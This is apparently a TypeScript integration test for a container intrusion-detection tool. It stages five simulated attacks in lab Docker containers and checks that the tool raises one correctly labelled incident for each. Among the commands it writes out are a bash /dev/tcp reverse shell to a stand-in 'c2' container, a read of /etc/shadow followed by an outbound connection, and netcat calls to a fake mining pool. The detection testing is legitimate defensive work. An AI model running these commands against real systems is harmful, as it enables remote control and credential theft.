import assert from 'node:assert/strict';
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import type { Incident, IntentModel } from '../../src/model/index.ts';
import { BIN, tenet } from '../run-cli.ts';
import { docker, inLab, LAB_IMAGES, LAB_LABEL, sleep, until } from './lab.ts';

const work = mkdtempSync(join(tmpdir(), 'tenet-lab-attacks-'));
const data = join(work, 'data');
const NETWORK = 'tenet-lab-attacks';
const label = ['--label', `${LAB_LABEL}=attacks-test`];
const started: string[] = [];
let defender: ChildProcess | undefined;

const quiet = (...args: string[]) => {
  try {
    docker(...args);
  } catch {
    // already gone
  }
};
after(() => {
  defender?.kill('SIGKILL');
  for (const id of started) quiet('rm', '-f', id);
  quiet('network', 'rm', NETWORK);
  rmSync(work, { recursive: true, force: true });
});

const run = (name: string, image: string, ...args: string[]) => {
  const id = docker('run', '-d', ...label, '--name', name, '--network', NETWORK, '--dns-search', '.', image, ...args);
  started.push(id);
  return id;
};
const ip = (name: string) => docker('inspect', '-f', `{{(index .NetworkSettings.Networks "${NETWORK}").IPAddress}}`, name);
const incidents = () => JSON.parse(tenet(['incidents', '--data', data, '--format', 'json']).stdout) as Incident[];
/** `docker exec` that may fail (an attack that is refused or cut short is still an attack). */
const attempt = (...args: string[]) => {
  try {
    execFileSync('docker', ['exec', ...args], { stdio: 'ignore', timeout: 10_000 });
  } catch {
    // the attack's own failure
  }
};

// Normal work for the web servers and the API: requests from clients that each connect anew, while they learn and after.
async function normalLoad(seconds: number, targets: string[]): Promise<void> {
  const end = Date.now() + seconds * 1000;
  while (Date.now() < end) {
    await Promise.all(targets.map((url) => fetch(url, { headers: { connection: 'close' }, signal: AbortSignal.timeout(5000) }).then((r) => r.text()).catch(() => '')));
    await sleep(50);
  }
}

test('five attacks against real containers make exactly one incident each, with the right pattern; the same containers under normal load make none', { timeout: 300_000 }, async (t) => {
  if (!(await inLab(t))) return;
  quiet('network', 'rm', NETWORK);
  docker('network', 'create', ...label, NETWORK);
  // the attackers' end: a container that listens, and is listed in a threat feed
  run('c2', LAB_IMAGES.busybox, 'sh', '-c', 'while true; do nc -l -p 4444 < /dev/null; done');
  run('pool', LAB_IMAGES.busybox, 'sh', '-c', 'while true; do nc -l -p 3333 < /dev/null; done');
  const victims = ['web-shell', 'web-reverse', 'web-dropped', 'api-exfil', 'api-miner'];
  for (const name of victims) run(name, name.startsWith('web') ? LAB_IMAGES.nginx : LAB_IMAGES.nodeApp);
  writeFileSync(join(work, 'feed.csv'), `ip,category,score,first_seen,last_seen,ports\n${ip('c2')},c2,90,2026-01-01,2026-11-01,4444\n`);

  defender = spawn(process.execPath, [BIN, 'defender', '--learn-for', '10s', '--data', data], { stdio: ['ignore', 'ignore', 'ignore'] });
  const loaded = tenet(['intel', 'load', join(work, 'feed.csv'), '--data', data]);
  assert.equal(loaded.status, 0, loaded.stderr);
  const targets = victims.map((name) => (name.startsWith('web') ? `http://${ip(name)}/` : `http://${ip(name)}:3000/`));
  const imageIds = new Set(victims.map((name) => docker('inspect', '-f', '{{.Image}}', name)));
  await until('the defender runs', () => (tenet(['status', '--data', data]).status === 0 ? true : undefined), 60_000);
  await normalLoad(12, targets);
  await until('the victims\' models are active', () => {
    const run = tenet(['models', '--data', data]);
    const models = run.status === 0 ? (JSON.parse(run.stdout) as IntentModel[]).filter((m) => imageIds.has(m.id)) : [];
    return models.length === imageIds.size && models.every((m) => m.state === 'active') ? true : undefined;
  }, 60_000);

  // the same containers under normal load, for as long as the attacks take: no incident
  await normalLoad(15, targets);
  assert.deepEqual(incidents(), [], 'normal work is no incident');

  const c2 = ip('c2');
  const pool = ip('pool');
  attempt('web-shell', 'sh', '-c', 'id; uname -a');
  attempt('web-reverse', 'bash', '-c', `bash -i >& /dev/tcp/${c2}/4444 0>&1`);
  docker('cp', '/bin/busybox', 'web-dropped:/usr/local/bin/helper');
  attempt('web-dropped', '/usr/local/bin/helper', 'true');
  attempt('api-exfil', 'sh', '-c', `cat /etc/shadow > /dev/null; node -e "require('net').connect(4444, '${c2}').on('error', () => {})"`);
  docker('cp', '/bin/busybox', 'api-miner:/tmp/busybox');
  attempt('api-miner', '/tmp/busybox', 'nc', '-w', '1', pool, '3333');
  await normalLoad(5, targets);

  const found = await until('one incident per attacked container', () => {
    const list = incidents();
    return list.length >= victims.length ? list : undefined;
  }, 20_000).catch((e: Error) => { throw new Error(`${e.message}: ${JSON.stringify(incidents().map((i) => [i.container.name, i.pattern]))}`); });
  await sleep(2000);
  const byContainer = Object.fromEntries(incidents().map((i) => [i.container.name, i.pattern]));
  for (const i of incidents()) t.diagnostic(`${i.container.name}: ${i.pattern} (${i.severity}): ${i.timeline.map((e) => `${e.rule}${e.count > 1 ? ` ×${e.count}` : ''}`).join(' → ')}\n    ${i.timeline.map((e) => e.message).join('\n    ')}`);
  assert.deepEqual(byContainer, {
    'web-shell': 'shell-in-container',
    'web-reverse': 'reverse-shell',
    'web-dropped': 'dropped-program',
    'api-exfil': 'credential-exfiltration',
    'api-miner': 'crypto-mining',
  });
  assert.equal(incidents().length, victims.length, 'exactly one each');
  const reverse = found.find((i) => i.pattern === 'reverse-shell');
  assert.ok(reverse === undefined || reverse.severity === 'critical');

  defender.kill('SIGTERM');
  await new Promise((r) => defender!.once('close', r));
  defender = undefined;
});
